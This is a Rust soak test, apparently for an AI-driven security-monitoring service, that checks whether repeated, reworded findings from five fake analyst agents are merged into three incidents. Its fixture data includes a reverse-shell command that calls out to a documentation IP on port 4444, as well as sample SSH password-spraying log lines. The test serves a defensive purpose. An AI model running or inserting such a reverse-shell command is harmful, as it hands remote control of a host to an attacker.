//! The demo clip in a loop, with a model that rephrases the same findings: they
//! are grouped into few incidents.

use std::collections::{BTreeMap, BTreeSet};
use std::time::Duration;

use crate::common::encoder::Encoder;
use crate::common::gemini::{CannedReply, FakeGemini};
use crate::common::serve::Setup;
use serde_json::{Value, json};

const KEY: &str = "AIzaFakeKeyOfTheTests0123456789abcdefgh";
const AGENTS: [&str; 5] = ["SecOps", "DevOps", "CloudSec", "AISec", "Architect"];

/// Two attacks on one host from one address, and something else.
const EVENTS: [(&str, [&str; 4], [&str; 2]); 3] = [
    (
        "policy",
        [
            "Burst of failed logins for admin",
            "Somebody guesses the admin password",
            "SSH authentication errors spike on web-01",
            "Password spraying from 203.0.113.45",
        ],
        [
            "Failed password for admin from 203.0.113.45 port 51502 ssh2",
            "Fai1ed password for adrnin from 203.0.113.45 port 51544 ssh2",
        ],
    ),
    (
        "suspicious_command",
        [
            "Reverse shell from web-01",
            "A shell connects web-01 to an outside address",
            "Outbound shell to 203.0.113.45",
            "Interactive bash over a socket",
        ],
        [
            "bash -i >& /dev/tcp/203.0.113.45/4444 0>&1",
            "$ bash -i >& /dev/tcp/203.0.113.45/4444 0>&1",
        ],
    ),
    (
        "misconfiguration",
        [
            "Public bucket",
            "Bucket fernhill-exports is public",
            "Anyone can read the exports",
            "Data open to the world",
        ],
        [
            "S3 bucket allows public read access s3://fernhill-exports",
            "S3 bucket allows pub1ic read access s3://fernhill-exports",
        ],
    ),
];

fn answer(turn: usize) -> CannedReply {
    let finding = |(number, (category, titles, quotes)): (usize, &(&str, [&str; 4], [&str; 2]))| {
        json!({
            "evidence": quotes[turn / 2 % quotes.len()],
            "box_2d": [],
            "category": category,
            "title": titles[(turn + number) % titles.len()],
            "detail": format!("Seen in look {turn}."),
            "mitre_techniques": [],
            "severity": if number == 0 && turn > 3 { "critical" } else { "high" },
            "confidence": 0.8,
            "recommended_action": "Look into it.",
        })
    };
    CannedReply::findings(&EVENTS.iter().enumerate().map(finding).collect())
}

/// Duration; `WATCHTOWER_SOAK_SECONDS` makes it a long run.
#[tokio::test]
async fn ever_other_words_are_a_handful_of_incidents() {
    let seconds = std::env::var("WATCHTOWER_SOAK_SECONDS").ok();
    let seconds = seconds.and_then(|text| text.parse().ok()).unwrap_or(25);
    let gemini = FakeGemini::start().await;
    for (number, agent) in AGENTS.iter().enumerate() {
        gemini.script(
            agent,
            (0..seconds as usize).map(|turn| answer(turn + number)),
        );
    }
    gemini.otherwise(CannedReply::nothing());
    let agents = std::fs::read_to_string(crate::common::serve::root().join("agents.toml")).unwrap();
    let fast = regex::Regex::new(r#"(?m)^interval = "[^"]+""#).unwrap();
    let mut server = Setup::new()
        .agents(&fast.replace_all(&agents, "interval = \"2s\""))
        .env("GOOGLE_API_KEY", KEY)
        .env("GOOGLE_GEMINI_BASE_URL", &gemini.base_url())
        .start()
        .await;
    let _publisher = Encoder::demo(&server.rtmp_url("live/demo"));
    server
        .until("findings of all", async |server| {
            let agents: BTreeSet<_> = server
                .findings_of_analysts()
                .iter()
                .map(|finding| finding["agent"].to_string())
                .collect();
            (agents.len() == AGENTS.len()).then_some(())
        })
        .await;
    tokio::time::sleep(Duration::from_secs(seconds)).await;
    // However rarely the screen changed.
    server
        .until("repeats", async |server| {
            (server.findings_of_analysts().len() >= 2 * EVENTS.len() * AGENTS.len()).then_some(())
        })
        .await;
    server.signal("-TERM");
    assert!(server.wait().await.success());
    // On a loaded machine OCR is slow, which the server reports.
    let findings = server.findings_of_analysts();
    assert_eq!(gemini.faults(), Vec::<String>::new());

    // Database after a restart, compared with the lines of findings.jsonl.
    let mut expected: BTreeMap<String, Vec<&Value>> = BTreeMap::new();
    for finding in &findings {
        let incident = finding["incident"].as_str().unwrap().to_owned();
        expected.entry(incident).or_default().push(finding);
    }
    let server = server.again().await;
    let listed = server.json("/api/incidents").await;
    let incidents = listed["items"].as_array().unwrap().iter();
    let incidents: Vec<_> = incidents
        .filter(|incident| incident["agents"] != json!(["Watchtower"]))
        .collect();
    println!("{} findings, {} incidents", findings.len(), incidents.len());
    assert_eq!(incidents.len(), EVENTS.len(), "{incidents:#?}");
    for incident in incidents {
        let own = &expected[incident["id"].as_str().unwrap()];
        assert_eq!(incident["count"], own.len());
        assert_eq!(incident["agents"].as_array().unwrap().len(), 5);
        let times = || {
            own.iter()
                .map(|finding| finding["observed_at"].as_str().unwrap())
        };
        assert_eq!(incident["first_seen"], times().min().unwrap());
        assert_eq!(incident["last_seen"], times().max().unwrap());
        // Each incident covers one event: two attacks on one host are two.
        let categories: BTreeSet<_> = own
            .iter()
            .map(|finding| finding["category"].as_str().unwrap())
            .collect();
        assert_eq!(categories.len(), 1, "{categories:?}");
    }
    for agent in AGENTS {
        let log = server.log(&format!("{}.log", agent.to_lowercase()));
        // Panel questions about others' findings do not count as its own.
        let heads = log
            .lines()
            .filter(|line| !line.starts_with(' ') && !line.contains(" -> "))
            .count();
        let own = findings
            .iter()
            .filter(|finding| finding["agent"] == agent)
            .count();
        assert!(
            heads <= 8 * EVENTS.len() && heads <= own + 4,
            "{heads} of {own}:\n{log}"
        );
    }
}
